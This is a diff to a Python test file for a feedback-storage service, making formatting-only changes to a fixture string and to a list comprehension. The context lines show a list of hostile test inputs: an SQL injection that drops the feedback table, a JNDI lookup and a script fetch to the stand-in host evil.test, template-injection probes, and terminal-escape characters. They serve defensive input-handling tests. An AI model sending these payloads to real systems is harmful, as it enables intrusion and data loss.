@@ -30,7 +30,7 @@ COMMENTS = (
     "'); DROP TABLE feedback;--",
     "%s%n%x {0} {{7*7}} ${jndi:ldap://evil.test/a} #{7*7} <%= 7*7 %>",
     "<script>fetch('https://evil.test')</script>",
-    "line one\r\n{\"level\":\"info\",\"event\":\"service_call\"}\u2028\u202e\x1b[2J",
+    'line one\r\n{"level":"info","event":"service_call"}\u2028\u202e\x1b[2J',
     "nul \0 and lone \ud800 ends",
     "é\u0301 ẞ 漢字 🧬",
     "x" * 8192,
@@ -195,7 +195,9 @@ def test_a_strange_time_is_kept_as_it_was_told_with_the_time_it_came(raid: Raid,
     give(raid, told)
     ((_, _, at, _),) = kept(raid.field, told["card"])
     assert at == moment
-    ((came,),) = [row[1:] for row in raid.field.rows("SELECT card, received_at FROM feedback") if row[0] == told["card"]]
+    ((came,),) = [
+        row[1:] for row in raid.field.rows("SELECT card, received_at FROM feedback") if row[0] == told["card"]
+    ]
     assert str(came).startswith(datetime.now(UTC).date().isoformat()[:8])
 
 
